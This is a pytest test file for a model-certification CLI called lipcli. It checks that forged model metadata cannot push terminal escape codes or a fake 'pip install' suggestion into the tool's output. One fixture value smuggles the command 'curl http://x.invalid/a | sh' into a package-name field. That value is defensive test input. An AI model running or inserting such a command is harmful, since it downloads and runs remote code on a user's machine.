"""Text from model files never drives the terminal, and ``pip install NAME`` is suggested only
for a valid distribution name; a BROKEN plugin is named as broken, with its error."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lipcli.cli import app
from lipcli.sdk.errors import MissingPluginError
from lipcli.host.models import load_model
from lipcli.host.plugins import create_host
from lipcli._util.safetext import clean, clean_tree, install_hint, is_distribution_name

from conftest import save_tiny_model
from conftest import forge

runner = CliRunner()
ESC = "\x1b"
EVIL = "requests2 && curl http://x.invalid/a | sh #\x1b[2J\x07\u202e"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    return save_tiny_model(tmp_path_factory.mktemp("m") / "m.safetensors", dataset={"name": "digits", "params": {}})


def test_clean_removes_every_control_character():
    text = "a\x1b[2Jb\x00c\x07d\x7fe\x9bf\u202eg\nh\ti"
    assert clean(text) == "a[2Jbcdefg h i"
    assert clean_tree({"k\x1b": ["x\x1by", 1, None]}) == {"k": ["xy", 1, None]}


@pytest.mark.parametrize("name, ok", [
    ("lipcli-polygon-pool", True), ("A.b_c-1", True), ("x", True),
    (EVIL, False), ("-x", False), ("x-", False), ("a b", False), ("", False), (None, False),
])
def test_distribution_names_follow_pep_508(name, ok):
    assert is_distribution_name(name) is ok
    assert install_hint(name).startswith("pip install") is ok


def _evil_pool(cfg):
    cfg["pool"] = {"name": "evil\x1b[31m", "params": {}, "provider": "p", "distribution": EVIL}


def _evil_dataset_distribution(tmp: Path, tiny: Path) -> Path:
    dataset = {"name": "nodata\x1b[2J", "params": {}, "distribution": EVIL, "classes": ["\x1b[2J"]}
    return forge(tiny, tmp / "d.safetensors", dataset=json.dumps(dataset))


@pytest.mark.parametrize("command", [["certify", "--no-write"], ["lipschitz"]])
def test_a_forged_distribution_name_is_neither_echoed_raw_nor_suggested(tiny, tmp_path, command):
    path = forge(tiny, tmp_path / "x.safetensors", edit=_evil_pool)
    r = runner.invoke(app, [command[0], str(path), *command[1:]])
    assert r.exit_code == 1, r.output
    assert ESC not in r.output and "\x07" not in r.output and "\u202e" not in r.output
    assert "pip install" not in r.output and "is not a valid package name" in r.stderr


def test_a_forged_dataset_slot_reaches_no_terminal(tiny, tmp_path):
    path = _evil_dataset_distribution(tmp_path, tiny)
    r = runner.invoke(app, ["certify", str(path), "--no-write"])
    assert r.exit_code == 1, r.output
    assert ESC not in r.output and "pip install" not in r.output
    assert "is not a valid package name" in r.stderr and "pass --dataset NAME" in r.stderr


def test_a_valid_distribution_name_is_still_suggested(tiny, tmp_path):
    def polygon(cfg):
        cfg["pool"] = {"name": "polygon", "params": {}, "provider": "polygon",
                       "distribution": "lipcli-polygon-pool"}

    path = forge(tiny, tmp_path / "p.safetensors", edit=polygon)
    with pytest.raises(MissingPluginError, match=r"\(pip install lipcli-polygon-pool\)"):
        load_model(path, registry=create_host(autoload=False).registry())


def test_a_broken_plugin_is_reported_as_broken_with_its_error(tiny, tmp_path):
    def polygon(cfg):
        cfg["pool"] = {"name": "polygon", "params": {}, "provider": "polygon",
                       "distribution": "lipcli-polygon-pool"}

    path = forge(tiny, tmp_path / "p.safetensors", edit=polygon)
    host = create_host(autoload=False)
    host.record_broken("polygon", "lipcli-polygon-pool", "0.1.0", "ImportError: boom\x1b[2J")
    with pytest.raises(MissingPluginError) as exc:
        load_model(path, registry=host.registry())
    text = str(exc.value)
    assert "installed but BROKEN" in text and "ImportError: boom" in text and ESC not in text
    assert "not installed" not in text


def test_a_broken_installed_plugin_through_the_cli(tiny, tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / "brokenpool.py").write_text("raise ImportError('boom at import')\n")
    info = site / "lipcli_brokenpool-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: lipcli-brokenpool\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[lipcli]\nbrokenpool = brokenpool\n")

    def broken(cfg):
        cfg["pool"] = {"name": "bpool", "params": {}, "provider": "brokenpool",
                       "distribution": "lipcli-brokenpool"}

    path = forge(tiny, tmp_path / "b.safetensors", edit=broken)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.run([sys.executable, "-m", "lipcli", "lipschitz", str(path)],
                          capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.strip().splitlines() == [textwrap.dedent(f"""\
        error: {path}: model needs pool 'bpool' from distribution 'lipcli-brokenpool', which is installed but BROKEN (plugin 'brokenpool': ImportError: boom at import); see `lip plugins`""")]


def _raw_controls(text: str) -> set[str]:
    """The control characters in ``text`` other than newline and tab (C0, DEL, C1, bidi)."""
    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
            or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}


@pytest.mark.parametrize("json_out", [False, True])
def test_info_on_a_forged_file_prints_no_control_character_and_suggests_no_command(tiny, tmp_path, json_out):
    def evil(cfg):
        cfg["pool"] = {"name": "evil\x1b[31m", "params": {"k\x1b[5m": "v\x1b[2J"}, "provider": "p",
                       "distribution": EVIL}

    dataset = {"name": "nodata\x1b[2J", "params": {}, "distribution": EVIL}
    path = forge(tiny, tmp_path / "e.safetensors", edit=evil, dataset=json.dumps(dataset))
    proc = subprocess.run([sys.executable, "-m", "lipcli", "info", str(path), *(["--json"] if json_out else [])],
                          capture_output=True, env={**os.environ, "COLUMNS": "200"}, timeout=300)
    assert proc.returncode == 0, proc.stderr
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert not _raw_controls(out) and not _raw_controls(err)
    assert "pip install" not in out + err  # the forged name is shown as data, never as a command
    assert "is not a valid package name" in out  # the missing plugin is still named
    if json_out:
        card = json.loads(out)
        assert card["missing"] and "pip install" not in json.dumps(card)
        assert card["components"][3]["name"] == "evil[31m"
